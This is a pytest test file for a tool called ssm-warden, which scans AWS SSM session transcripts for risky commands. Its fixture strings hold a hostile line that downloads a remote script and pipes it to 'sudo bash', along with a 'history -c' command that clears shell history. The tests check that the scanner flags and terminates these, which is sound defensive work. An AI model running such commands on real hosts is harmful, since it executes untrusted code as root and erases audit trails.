"""``ssm-warden scan`` on transcripts as people have them (files on disk, no AWS)."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest

from ssm_warden.cli import main
from tests.unit.logs.builders import log_event, payload, streamed

RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
S3_LOG = (
    'Script started on 2024-01-04 05:45:59+00:00 [TERM="xterm"]\r\n'
    "\x1b]0;ubuntu@web-1: ~\x07\x1b[01;32mubuntu@web-1\x1b[00m:~$ ls\r\n"
    "file.txt\r\n"
    f"\x1b[?2004hubuntu@web-1:~$ {RISKY}\r\n"
    "curl: (7) Failed to connect\r\n"
    "ubuntu@web-1:~$ exit\r\n"
)


def scan(capsys: pytest.CaptureFixture[str], *args: str) -> list[dict[str, object]]:
    assert main(["scan", "--json", *args]) == 0
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


def test_an_s3_session_log_is_scanned_under_the_strictest_scope(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given an S3 session log (plain text with ANSI codes), named after its session
    (tmp_path / "alice-0e34861185201706f.log").write_text(S3_LOG)
    # When it is scanned without a policy or tags
    (report,) = scan(capsys, str(tmp_path))
    # Then the commands are listed, and the risky one is judged under the strictest scope
    assert report["session_id"] == "alice-0e34861185201706f"
    assert report["scope"] == "prod"
    commands = report["commands"]
    assert isinstance(commands, list)
    assert [c["command"] for c in commands] == ["ls", RISKY, "exit"]
    (finding,) = commands[1]["findings"]
    assert finding["action"] == "terminate"


def test_cloudwatch_exports_are_grouped_by_session_and_judged_under_the_tagged_scope(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given JSON lines exported from CloudWatch Logs for two sessions, gzipped
    rows = [
        {"logStreamName": "alice-1", "message": streamed(["sh-4.2$ sh-4.2$ id", "uid=1000"])},
        {"logStreamName": "bob-2", "message": streamed(["sh-4.2$ sh-4.2$ history -c"])},
        {"logStreamName": "alice-1", "message": streamed([f"sh-4.2$ {RISKY}"])},
    ]
    (tmp_path / "export.jsonl.gz").write_bytes(gzip.compress("\n".join(map(json.dumps, rows)).encode()))
    # When scanned as sessions of dev hosts
    reports = scan(capsys, "--tag", "Environment=dev", str(tmp_path / "export.jsonl.gz"))
    # Then each session gets its own report, judged under the dev scope
    assert [r["session_id"] for r in reports] == ["alice-1", "bob-2"]
    assert {r["scope"] for r in reports} == {"dev"}
    alice = reports[0]["commands"]
    assert isinstance(alice, list)
    assert [c["command"] for c in alice] == ["id", RISKY]


def test_streamed_events_themselves_and_subscription_payloads_are_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "events.jsonl").write_text(
        json.dumps(json.loads(streamed(["sh-4.2$ sh-4.2$ uptime"]))) + "\n"
    )
    (tmp_path / "payload.json").write_text(json.dumps(payload([log_event(0, streamed(["sh-4.2$ whoami"]))])))
    reports = scan(capsys, str(tmp_path / "events.jsonl"), str(tmp_path / "payload.json"))
    assert [[c["command"] for c in r["commands"]] for r in reports] == [["uptime", "whoami"]]


def test_a_missing_path_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(tmp_path / "nope.log")]) == 2  # bad usage: every command exits 2 for it
    assert "no such file" in capsys.readouterr().err


def test_the_human_readable_report_shows_commands_and_findings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "s-1.log").write_text(S3_LOG)
    assert main(["scan", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert f"  $ {RISKY}" in out
    assert "CRITICAL" in out
    assert "-> terminate" in out
